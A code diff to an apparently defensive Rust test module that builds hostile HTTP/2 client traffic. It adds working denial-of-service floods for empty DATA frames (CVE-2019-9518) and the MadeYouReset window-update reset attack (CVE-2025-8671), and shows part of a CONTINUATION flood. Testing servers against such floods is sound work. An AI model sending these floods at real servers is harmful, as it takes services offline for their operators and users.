@@ -1,26 +1,13 @@
 //! What hostile HTTP/2 clients send, frame by frame.
 
+use super::frames::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, SETTINGS, fields, frame,
+};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 
-const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-const HEADERS: u8 = 1;
-const RST_STREAM: u8 = 3;
-const SETTINGS: u8 = 4;
-const CONTINUATION: u8 = 9;
-const END_STREAM: u8 = 1;
-const END_HEADERS: u8 = 4;
 /// `:method GET`, `:scheme http`, `:path /`, `:authority a` (RFC 7541 appendix A).
 const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
-
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
-    let mut bytes = length[1..].to_vec();
-    bytes.extend([kind, flags]);
-    bytes.extend(stream.to_be_bytes());
-    bytes.extend(payload);
-    bytes
-}
 
 fn opening() -> Vec<u8> {
     let mut bytes = PREFACE.to_vec();
@@ -54,6 +41,33 @@ pub async fn continuation(io: &mut TcpStream) {
     let fields = [0x00, 0x01, b'x', 0x01, b'y'].repeat(200);
     for _ in 0..5_000 {
         bytes.extend(frame(CONTINUATION, 0, 1, &fields));
+    }
+    until_ended(io, &bytes).await;
+}
+
+/// DATA frames with nothing in them (CVE-2019-9518).
+pub async fn empty_data(io: &mut TcpStream) {
+    let mut bytes = opening();
+    let post = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", "/"),
+        (":authority", "a"),
+    ];
+    bytes.extend(frame(HEADERS, END_HEADERS, 1, &fields(&post)));
+    for _ in 0..1_000_000 {
+        bytes.extend(frame(DATA, 0, 1, &[]));
+    }
+    until_ended(io, &bytes).await;
+}
+
+/// Requests that the server must reset (MadeYouReset, CVE-2025-8671): each increments its window by nothing.
+pub async fn made_to_reset(io: &mut TcpStream) {
+    const WINDOW_UPDATE: u8 = 8;
+    let mut bytes = opening();
+    for stream in (1..20_000).step_by(2) {
+        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET));
+        bytes.extend(frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()));
     }
     until_ended(io, &bytes).await;
 }
